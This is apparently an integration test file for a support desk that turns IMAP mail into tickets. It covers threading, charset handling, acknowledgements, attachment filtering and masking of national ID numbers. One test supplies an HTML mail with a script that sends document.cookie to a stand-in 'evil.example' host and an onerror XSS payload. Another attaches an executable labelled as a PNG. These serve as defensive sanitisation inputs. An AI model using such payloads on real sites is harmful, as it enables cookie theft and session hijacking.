import { startDovecot, TestMailbox } from '../support/dovecot';
import { deliver, REFUSED, rows, startMailDesk, TAKEN, ticketOf } from '../support/mail-inbound';
import { messageIdOf, rawMail } from '../support/raw-mail';
import { until, type TestApp } from '../support/test-app';

const PDF = Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');

describe('support mailbox into tickets (IMAP)', () => {
  let box: TestMailbox;
  let desk: TestApp;

  beforeAll(async () => {
    box = await startDovecot();
    desk = await startMailDesk(box);
  });

  afterAll(async () => {
    await desk?.close();
    await box?.stop();
  });

  it('opens an e-mail ticket with the text and attachments, marks the mail taken and queues an acknowledgement', async () => {
    const raw = rawMail({
      from: 'Kari Nordmann <Kari@Example.no>',
      subject: 'Finner ikke brevet i Digipost',
      text: 'Hei,\njeg finner ikke brevet fra Skatteetaten.\nHilsen Kari',
      attachments: [
        { filename: 'skjermbilde.pdf', content: PDF, contentType: 'application/pdf' },
        { filename: 'program.exe', content: Buffer.from('MZ\x90\x00\x03\x00', 'latin1'), contentType: 'image/png' },
      ],
    });
    const uid = await deliver(box, raw);
    expect(await box.flags(uid)).toEqual(new Set([TAKEN, '\\Seen']));

    const found = (await ticketOf(desk, raw))!;
    expect(found.ticket).toMatchObject({ channel: 'email', status: 'open', topic: 'digital-mailbox', language: 'nb', citizen_email: 'kari@example.no', citizen_name: 'Kari Nordmann', summary: 'Finner ikke brevet i Digipost' });
    expect(found.ticket.last_inbound_at).toBeTruthy();
    expect(found.messages).toHaveLength(1);
    expect(found.messages[0]).toMatchObject({ author: 'citizen', kind: 'text' });
    expect(found.messages[0].body).toBe('Hei,\njeg finner ikke brevet fra Skatteetaten.\nHilsen Kari\n\n[Vedlegg ikke lagret: program.exe (filtypen er ikke tillatt)]');
    expect(found.attachments).toEqual([expect.objectContaining({ filename: 'skjermbilde.pdf', content_type: 'application/pdf', size: PDF.length, message_id: found.messages[0].id })]);
    expect(found.mail).toMatchObject({ direction: 'in', kind: 'mail', status: 'received', from_address: 'kari@example.no', message_id: found.messages[0].id });

    const [ack] = found.mails.filter((m) => m.kind === 'ack');
    expect(ack).toMatchObject({
      direction: 'out',
      to_address: 'kari@example.no',
      from_address: 'Brukerstøtte Digdir <brukerstotte@digdir.no>',
      subject: `Re: Finner ikke brevet i Digipost [${found.ticket.reference}]`,
      in_reply_to: messageIdOf(raw),
      refs: messageIdOf(raw),
      ack_key: `ack:${found.ticket.id}:kari@example.no`,
    });
    expect(ack.header_message_id).toMatch(/^<[0-9a-f-]{36}@digdir\.no>$/);
    expect(ack.body).toContain(found.ticket.reference);
    expect(ack.body).toContain('Vi har mottatt den');
    // No SMTP_URL here: the outbox hands it to the development mailbox.
    await until(async () => (await rows(desk, 'SELECT status FROM mails WHERE id = ?', [ack.id]))[0].status === 'sent');
  });

  it('threads an answer to our acknowledgement into its ticket by the headers, without the quotation, reopening it, with no second acknowledgement', async () => {
    const first = rawMail({ from: 'per@example.no', subject: 'Innlogging', text: 'Kommer ikke inn.' });
    await deliver(box, first);
    const before = (await ticketOf(desk, first))!;
    const ack = before.mails.find((m) => m.kind === 'ack');
    await rows(desk, "UPDATE tickets SET status = 'pending' WHERE id = ?", [before.ticket.id]);

    const answer = rawMail({
      from: 'per@example.no',
      subject: 'SV: Innlogging',
      inReplyTo: ack.header_message_id,
      references: `${messageIdOf(first)} ${ack.header_message_id}`,
      text: `Nå gikk det!\n\nDen tir. 24. nov. 2026 kl. 11:00 skrev Brukerstøtte <brukerstotte@digdir.no>:\n> ${ack.body.split('\n').join('\n> ')}\n`,
    });
    await deliver(box, answer);
    const after = (await ticketOf(desk, answer))!;
    expect(after.ticket.id).toBe(before.ticket.id);
    expect(after.ticket.status).toBe('open');
    expect(after.events.map((e) => e.type)).toEqual(['created', 'reopened']);
    expect(after.messages.map((m) => m.body)).toEqual(['Kommer ikke inn.', 'Nå gikk det!']);
    expect(after.mails.filter((m) => m.kind === 'ack')).toHaveLength(1);
    expect(after.mail.body).toContain('> '); // the mail itself is kept whole
  });

  it('threads by the reference in the subject only from the ticket’s own address', async () => {
    const first = rawMail({ from: 'liv@example.no', subject: 'Spørsmål', text: 'Første.' });
    await deliver(box, first);
    const { ticket } = (await ticketOf(desk, first))!;

    const byReference = rawMail({ from: 'LIV@example.no', subject: `Mer om saken ${ticket.reference}`, text: 'Andre.' });
    await deliver(box, byReference);
    expect((await ticketOf(desk, byReference))!.ticket.id).toBe(ticket.id);

    const stranger = rawMail({ from: 'annen@example.no', subject: `Re: ${ticket.reference}`, text: 'Fremmed.' });
    await deliver(box, stranger);
    const own = (await ticketOf(desk, stranger))!;
    expect(own.ticket.id).not.toBe(ticket.id);
    expect(own.ticket.summary).toBe(`Re: ${ticket.reference}`);
  });

  it('reads ISO-8859-1 text and encoded-word subjects and names, and answers in the language the mail gives', async () => {
    const raw = rawMail({
      from: '=?ISO-8859-1?Q?Bj=F8rn_=C6r=F8y?= <bjorn@example.no>',
      subject: '=?UTF-8?B?U3DDuHJzbcOlbCBvbSDDpnJlbmRl?=',
      text: 'Jeg har spørsmål om ærender på Øya. Blåbær.',
      charset: 'iso-8859-1',
      headers: { 'Content-Language': 'en-GB' },
    });
    await deliver(box, raw);
    const found = (await ticketOf(desk, raw))!;
    expect(found.ticket).toMatchObject({ summary: 'Spørsmål om ærende', citizen_name: 'Bjørn Ærøy', language: 'en' });
    expect(found.messages[0].body).toBe('Jeg har spørsmål om ærender på Øya. Blåbær.');
    expect(found.mails.find((m) => m.kind === 'ack').body).toContain('We have received it');
  });

  it('stores an HTML-only mail with scripts as plain text, and masks national identity numbers', async () => {
    const raw = rawMail({
      from: 'ada@example.no',
      subject: 'Fødselsnummer 17858500060',
      html: '<html><body><p>Mitt nummer er <b>17858500060</b>.</p><script>document.location="https://evil.example/"+document.cookie</script><img src=x onerror="alert(1)"></body></html>',
    });
    await deliver(box, raw);
    const found = (await ticketOf(desk, raw))!;
    const stored = JSON.stringify([found.ticket.summary, found.messages, found.mail.body, found.mail.subject]);
    expect(stored).not.toContain('17858500060');
    expect(stored).not.toMatch(/<script|<img|<b>|onerror|document\.cookie/i);
    expect(found.messages[0].body).toMatch(/^Mitt nummer er 178585\*{5}\.\n/); // then the image's text, "[x]"
    expect(found.ticket.summary).toBe('Fødselsnummer 178585*****');
  });

  it('leaves alone what it has taken: a mail marked taken is not fetched again', async () => {
    const raw = rawMail({ from: 'eva@example.no', text: 'En gang.' });
    const uid = await deliver(box, raw);
    const later = rawMail({ from: 'eva2@example.no', text: 'Etterpå.' });
    await deliver(box, later);
    expect(Number((await rows(desk, 'SELECT COUNT(*) AS n FROM mails WHERE header_message_id = ?', [messageIdOf(raw)]))[0].n)).toBe(1);
    expect((await box.flags(uid)).has(REFUSED)).toBe(false);
  });
});
